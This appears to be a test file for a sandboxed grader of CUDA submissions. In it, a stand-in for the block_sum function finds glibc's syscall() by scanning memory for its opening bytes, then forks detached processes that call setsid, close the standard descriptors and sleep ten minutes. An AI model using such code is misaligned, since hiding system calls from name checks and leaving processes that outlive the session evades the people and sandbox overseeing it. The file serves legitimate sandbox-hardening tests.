// attack: leaves processes in sessions of their own, by nameless system calls
// expect: wrong_answer|crashed
// stopped by: the sandbox: its processes end with it
#include <cuda_runtime.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

namespace {

// The C library's own syscall(), found by its first instructions below the library's data: no name
// of it is in this file. x86-64 and the GNU C library; elsewhere the search ends the program.
using Syscall = long (*)(long, ...);
Syscall find_syscall() {
  const unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6};
  const auto* at = reinterpret_cast<const unsigned char*>(stdout);
  while (std::memcmp(--at, begin, sizeof begin) != 0) {
  }
  return reinterpret_cast<Syscall>(reinterpret_cast<std::uintptr_t>(at));
}

void leave() {
  const Syscall call = find_syscall();
  for (int i = 0; i < 3; ++i) {
    if (call(57) != 0) continue;
    call(112);  // setsid
    for (int descriptor = 0; descriptor < 3; ++descriptor) call(3, descriptor);
    const long ten_minutes[2] = {600, 0};
    call(35, ten_minutes, nullptr);
    call(231, 0);
  }
}

}  // namespace

void block_sum(float*, const float*, int) { leave(); }
